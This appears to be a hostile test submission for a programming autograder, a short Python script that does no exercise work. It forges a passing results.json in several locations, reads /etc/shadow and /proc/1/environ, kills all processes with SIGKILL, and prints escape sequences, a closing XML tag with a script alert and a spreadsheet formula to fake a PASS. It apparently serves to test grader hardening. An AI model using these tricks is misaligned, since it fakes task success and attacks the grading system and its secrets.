# Handed in by Heidi: does no work, and wants ten points for it.
import json, os, signal

mark = {"verdict": "pass", "points": 10, "exercise": "ch05/no-stall"}
for path in ["results.json", "/results.json", "/autograder/results/results.json"]:
    try:
        with open(path, "w") as file:
            json.dump({"marks": [mark]}, file)
    except OSError as error:
        print("results.json:", error.strerror)
for path in ["/etc/shadow", "/proc/1/environ"]:
    try:
        print(path, len(open(path, "rb").read()))
    except OSError as error:
        print(path, error.strerror)
try:
    os.kill(-1, signal.SIGKILL)
except OSError:
    pass
print("\x1b[2J\x1b]0;PASS\x07PASS  10 of 10 points")
print("</system-out></testcase><script>alert(1)</script>=1+1")
